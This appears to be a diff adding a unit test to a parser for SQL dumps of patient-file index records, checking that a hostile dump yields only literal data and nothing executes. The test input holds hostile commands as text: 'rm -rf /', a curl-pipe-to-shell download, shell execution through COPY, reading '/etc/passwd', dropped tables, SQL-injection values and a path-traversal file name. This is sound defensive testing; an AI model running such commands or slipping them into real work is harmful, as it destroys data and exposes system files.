@@ -74,6 +74,23 @@ INSERT INTO other VALUES (1);
     );
   });
 
+  it('a hostile dump is parsed and never executed: commands are text or nothing', () => {
+    const rows = sql(`
+\\! rm -rf /
+COPY ssmixidx FROM PROGRAM 'curl http://example.invalid/x | sh';
+COPY (SELECT 1) TO PROGRAM 'sh';
+CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u;
+LOAD DATA INFILE '/etc/passwd' INTO TABLE SSMIXIDX;
+DROP TABLE SSMIXIDX; ATTACH DATABASE '/tmp/x' AS x;
+INSERT INTO SSMIXIDX (PatientID, FileName) VALUES ('1'); DELETE FROM listed; --', '../../etc/passwd_1');
+INSERT INTO SSMIXIDX (PatientID, FileName) VALUES ('1''); DROP TABLE listed; --', 'a_1');
+`);
+    assert.deepEqual(
+      rows.map(({ patient, fileName }) => [patient, fileName]),
+      [["1'); DROP TABLE listed; --", 'a_1']],
+    );
+  });
+
   it('what is no dump gives no rows, however it ends', () => {
     for (const text of ['', 'VALUES (', "INSERT INTO SSMIXIDX VALUES ('a", 'COPY ssmixidx FROM stdin;\n1'])
       assert.deepEqual(sql(text), []);
